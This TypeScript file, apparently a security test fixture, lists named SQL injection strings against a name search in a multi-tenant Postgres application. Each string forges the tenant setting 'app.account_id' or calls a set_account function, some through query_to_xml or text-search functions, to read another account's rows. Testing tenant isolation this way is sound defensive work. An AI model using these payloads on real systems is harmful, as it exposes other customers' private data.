/**
 * Texts that name another tenant in the midst of a search for names, `like '%…%'`, of an id and a name. Each reaches the rows of
 * account 2 where the wall is away that it is meant for.
 */
const forging = "pg_catalog.set_config('app.account_id', '2', true)"
const projectsAfter = (first: string): string => `%' union all select project.id, project.name from (select ${first} as done offset 0) as first, lateral (select id, name from project where first.done is not null offset 0) as project --`

export const namingInjections: Record<string, string> = {
  'a setting in the same scan': `of nobody%' or ${forging} is not null and account_id = 2 --`,
  'a setting, then the rows': projectsAfter(forging),
  'the session\'s setting': projectsAfter("pg_catalog.set_config('app.account_id', '2', false)"),
  'a setting and its view': projectsAfter(`(select count(*) from pg_settings where name = 'work_mem' and ${forging} is not null)`),
  'the naming function': projectsAfter('set_account(2)::text'),
  'the naming function, with a name': projectsAfter("set_account(2, 'tenant-1')::text"),
  'a statement that is run as text': projectsAfter(`query_to_xml($x$select ${forging}$x$, true, true, '')::text`),
  'a statement of a text search': projectsAfter(`(select string_agg(word, '') from ts_stat($x$select to_tsvector('simple', ${forging})$x$))`),
  'a query that is rewritten by one': projectsAfter(`ts_rewrite('a'::tsquery, $x$select ${forging}::tsquery, 'b'::tsquery$x$)::text`)
}
